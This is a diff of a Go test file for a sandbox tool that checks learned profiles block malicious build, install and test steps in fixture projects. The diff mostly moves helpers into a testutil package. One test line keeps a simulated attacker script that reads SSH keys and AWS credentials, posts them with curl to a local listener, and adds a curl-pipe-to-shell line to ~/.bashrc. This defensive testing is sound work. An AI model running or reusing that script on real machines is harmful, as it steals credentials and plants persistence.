@@ -40,7 +40,7 @@ var dotfiles = map[string]string{
 }
 
 // victim returns the victim's box for rel, with the secrets and dotfiles (re)planted.
-func victim(t *testing.T, rel, fixture string) *box {
+func victim(t *testing.T, rel, fixture string) *testutil.Box {
 	t.Helper()
 	b := newBox(t, victimUser, rel, fixture)
 	for name, content := range secrets {
@@ -59,15 +59,15 @@ type attack struct {
 	need    []string
 	argv    []string // the normal job, for the twin and the malicious project alike
 	// twin turns a fresh copy of the fixture into its benign twin (in b.Work).
-	twin func(t *testing.T, b *box)
+	twin func(t *testing.T, b *testutil.Box)
 	// prepare readies a checkout before learn or enforce (both twins), unsandboxed.
-	prepare func(t *testing.T, b *box)
+	prepare func(t *testing.T, b *testutil.Box)
 	// review edits the learned profile as a reviewer would (nil: used as learned).
 	review func(p *policy.Profile)
 	// beforeEnforce runs in the malicious checkout right before enforcing, unsandboxed.
-	beforeEnforce func(t *testing.T, b *box)
+	beforeEnforce func(t *testing.T, b *testutil.Box)
 	// jobDone checks (a) after the enforced run.
-	jobDone func(t *testing.T, b *box, r result)
+	jobDone func(t *testing.T, b *testutil.Box, r testutil.Result)
 	// outside lists files outside the work tree that must not change; relative paths are
 	// relative to the work directory, "~/" to HOME.
 	outside []string
@@ -120,9 +120,9 @@ func execDenial(prog string) func(report.Denial) bool {
 	}
 }
 
-func gitInit(t *testing.T, b *box) {
+func gitInit(t *testing.T, b *testutil.Box) {
 	t.Helper()
-	b.sh(t, `git init -q . && git add -A && git commit -q -m "initial import FAKE-COMMIT-SECRET-0c4b71"`)
+	b.Sh(t, `git init -q . && git add -A && git commit -q -m "initial import FAKE-COMMIT-SECRET-0c4b71"`)
 }
 
 // TestAttacks runs every attack fixture. The listener's port reaches the malicious step as
@@ -137,7 +137,7 @@ func TestAttacks(t *testing.T) {
 			fixture: "cargo-buildrs",
 			need:    []string{"cargo"},
 			argv:    []string{"cargo", "build", "--offline"},
-			twin: func(t *testing.T, b *box) {
+			twin: func(t *testing.T, b *testutil.Box) {
 				copyFile(t, filepath.Join(b.Work, "benign", "build.rs"), filepath.Join(b.Work, "build.rs"), 0o644)
 			},
 			// As in the shipped cargo-test profile: the build script's path has a hash in it;
@@ -148,9 +148,9 @@ func TestAttacks(t *testing.T) {
 			// the nearest directory, exec rules do not). A fresh checkout has no target/, so
 			// the build script could not run at all. An existing (empty) target/ is an
 			// incremental build's state; shipped/TestShippedProfiles/cargo-test shows the gap.
-			beforeEnforce: func(t *testing.T, b *box) { b.sh(t, "mkdir -p target") },
-			jobDone: func(t *testing.T, b *box, r result) {
-				out := b.run(t, "./target/debug/buildrs-fixture")
+			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "mkdir -p target") },
+			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
+				out := b.Run(t, "./target/debug/buildrs-fixture")
 				if !strings.Contains(out.Stdout, "built by build.rs") {
 					t.Errorf("(a) the built program does not run: %s", out)
 				}
@@ -167,10 +167,10 @@ func TestAttacks(t *testing.T) {
 			fixture: "npm-postinstall",
 			need:    []string{"npm", "node", "sh"},
 			argv:    []string{"npm", "install", "--offline", "--no-audit", "--no-fund"},
-			twin: func(t *testing.T, b *box) {
+			twin: func(t *testing.T, b *testutil.Box) {
 				copyFile(t, filepath.Join(b.Work, "benign", "package.json"), filepath.Join(b.Work, "package.json"), 0o644)
 			},
-			jobDone: func(t *testing.T, b *box, r result) {
+			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
 				if got := readFile(t, filepath.Join(b.Work, "generated.js")); !strings.Contains(got, `"1.0.0"`) {
 					t.Errorf("(a) postinstall did not generate generated.js (got %q)", got)
 				}
@@ -193,14 +193,14 @@ func TestAttacks(t *testing.T) {
 			fixture: "gotest-phonehome",
 			need:    []string{"go", "git"},
 			argv:    []string{"go", "test", "-count=1", "."},
-			twin: func(t *testing.T, b *box) {
+			twin: func(t *testing.T, b *testutil.Box) {
 				if err := os.Remove(filepath.Join(b.Work, "analytics_test.go")); err != nil {
 					t.Fatal(err)
 				}
 			},
 			prepare: gitInit,
 			shipped: "go-test",
-			jobDone: func(t *testing.T, b *box, r result) {
+			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
 				if !strings.Contains(r.Stdout, "ok ") {
 					t.Errorf("(a) go test did not pass: %s", r)
 				}
@@ -217,13 +217,13 @@ func TestAttacks(t *testing.T) {
 			fixture: "formatter",
 			need:    []string{"gcc"},
 			argv:    []string{"./tidy"},
-			twin:    func(t *testing.T, b *box) { b.sh(t, "gcc -O2 -Wall -DBENIGN -o tidy tidy.c") },
-			prepare: func(t *testing.T, b *box) {
+			twin:    func(t *testing.T, b *testutil.Box) { b.Sh(t, "gcc -O2 -Wall -DBENIGN -o tidy tidy.c") },
+			prepare: func(t *testing.T, b *testutil.Box) {
 				testutil.WriteFile(t, filepath.Join(b.Work, "..", "sibling", "notes.txt"), "the sibling project's notes\n", 0o644)
 			},
 			// The malicious formatter: built the same way, without -DBENIGN.
-			beforeEnforce: func(t *testing.T, b *box) { b.sh(t, "gcc -O2 -Wall -o tidy tidy.c") },
-			jobDone: func(t *testing.T, b *box, r result) {
+			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "gcc -O2 -Wall -o tidy tidy.c") },
+			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
 				if got := readFile(t, filepath.Join(b.Work, "a.txt")); got != "first line\nsecond line\n" {
 					t.Errorf("(a) a.txt was not formatted: %q", got)
 				}
@@ -239,7 +239,7 @@ func TestAttacks(t *testing.T) {
 			fixture: "escape-build",
 			need:    []string{"make", "gcc"},
 			argv:    []string{"make"},
-			twin: func(t *testing.T, b *box) {
+			twin: func(t *testing.T, b *testutil.Box) {
 				// The same Makefile, with the generator built -DBENIGN.
 				data := readFile(t, filepath.Join(b.Work, "Makefile"))
 				testutil.WriteFile(t, filepath.Join(b.Work, "Makefile"), strings.Replace(data, "GENFLAGS ?=\n", "GENFLAGS ?= -DBENIGN\n", 1), 0o644)
@@ -248,9 +248,9 @@ func TestAttacks(t *testing.T) {
 			// an exec rule on a file that does not exist yet is not granted. The checkout's
 			// generator is already built (an incremental build), so the step that matters, its
 			// run, happens under the sandbox.
-			beforeEnforce: func(t *testing.T, b *box) { b.sh(t, "make -s gen") },
-			jobDone: func(t *testing.T, b *box, r result) {
-				out := b.run(t, "./hello")
+			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "make -s gen") },
+			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
+				out := b.Run(t, "./hello")
 				if !strings.Contains(out.Stdout, "hello from gen") {
 					t.Errorf("(a) the built program does not run: %s", out)
 				}
@@ -267,16 +267,16 @@ func TestAttacks(t *testing.T) {
 	for _, a := range attacks {
 		t.Run(a.name, func(t *testing.T) {
 			benign := victim(t, filepath.Join("src", a.name, "twin"), filepath.Join("attacks", a.fixture))
-			requireTools(t, benign, a.need...)
+			testutil.RequireTools(t, benign.Path, a.need...)
 			// The "downloaded script" steals the keys and persists in ~/.bashrc.
-			attacker := newListener(t, func(port int) string {
+			attacker := testutil.Record(t, func(port int) string {
 				return fmt.Sprintf("#!/bin/sh\ncat ~/.ssh/id_* ~/.aws/credentials | curl -s --data-binary @- http://127.0.0.1:%d/loot\necho 'curl -fsS http://127.0.0.1/x | sh # sysprof-attack' >> ~/.bashrc\n", port)
 			})
 			port = attacker.Port
 			// A "package registry" the normal job may use (npm-postinstall's prebuilt manifest):
 			// the same port for the learn and the enforced runs, so the learned profile's
 			// network allowlist holds it and nothing else.
-			registry := newListener(t, func(int) string { return `{"version":"1.0.0"}` })
+			registry := testutil.Record(t, func(int) string { return `{"version":"1.0.0"}` })
 			env := []string{fmt.Sprintf("SYSPROF_REGISTRY_PORT=%d", registry.Port)}
 			benign.Extra = append(benign.Extra, env...)
 
@@ -286,8 +286,8 @@ func TestAttacks(t *testing.T) {
 				a.prepare(t, benign)
 			}
 			profile := filepath.Join(t.TempDir(), a.name+".yaml")
-			r := benign.sysprof(t, append([]string{"learn", "-p", profile, "--"}, a.argv...)...)
-			mustCode(t, "learn the benign twin", r, 0)
+			r := benign.Sysprof(t, append([]string{"learn", "-p", profile, "--"}, a.argv...)...)
+			testutil.MustCode(t, "learn the benign twin", r, 0)
 			if a.review != nil {
 				p, err := policy.Load(profile)
 				if err != nil {
@@ -313,7 +313,7 @@ func TestAttacks(t *testing.T) {
 
 // enforceAttack checks out the malicious project afresh as rel, enforces it under profile with
 // env, and makes the assertions (a)–(d).
-func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, attacker *listener) {
+func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, attacker *testutil.Recorder) {
 	t.Helper()
 	evil := victim(t, filepath.Join("src", a.name, rel), filepath.Join("attacks", a.fixture))
 	evil.Extra = append(evil.Extra, env...)
@@ -324,13 +324,13 @@ func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, at
 		a.beforeEnforce(t, evil)
 	}
 	before := snapshot(t, evil, a.outside)
-	conns0, _ := attacker.received()
+	conns0, _ := attacker.Received()
 	rep := filepath.Join(t.TempDir(), "report.json")
-	r := evil.sysprof(t, append([]string{"enforce", "-p", profile, "--report", rep, "--"}, a.argv...)...)
-	rp := readReport(t, rep)
+	r := evil.Sysprof(t, append([]string{"enforce", "-p", profile, "--report", rep, "--"}, a.argv...)...)
+	rp := testutil.ReadReport(t, rep)
 	var lines []string
 	for _, d := range rp.Denials {
-		lines = append(lines, "  "+denialString(d))
+		lines = append(lines, "  "+testutil.DenialString(d))
 	}
 	t.Logf("report: %d denials\n%s", len(rp.Denials), strings.Join(lines, "\n"))
 
@@ -342,7 +342,7 @@ func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, at
 	}
 	// (b) nothing secret reached the attacker; nothing at all should have: no profile allows
 	// its port.
-	conns, got := attacker.received()
+	conns, got := attacker.Received()
 	for _, m := range secretMarkers {
 		if strings.Contains(got, m) {
 			t.Errorf("(b) the attacker received %s (%d connections):\n%s", m, conns, got)
@@ -387,9 +387,9 @@ func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, at
 		case len(match) == 0:
 			t.Errorf("(d) the report does not list the attempt to %s (by %v)", at.what, at.exe)
 		case len(byExe) == 0:
-			t.Errorf("(d) the report lists the attempt to %s, but not by %v: %s", at.what, at.exe, denialString(match[0]))
+			t.Errorf("(d) the report lists the attempt to %s, but not by %v: %s", at.what, at.exe, testutil.DenialString(match[0]))
 		default:
-			t.Logf("(d) %s: %s", at.what, denialString(byExe[0]))
+			t.Logf("(d) %s: %s", at.what, testutil.DenialString(byExe[0]))
 		}
 	}
 }
@@ -412,7 +412,7 @@ func widenExec(p *policy.Profile, prefix, dir string) {
 }
 
 // snapshot reads the files in names (see attack.outside); a missing file reads as "".
-func snapshot(t *testing.T, b *box, names []string) map[string]string {
+func snapshot(t *testing.T, b *testutil.Box, names []string) map[string]string {
 	t.Helper()
 	m := map[string]string{}
 	for _, n := range names {
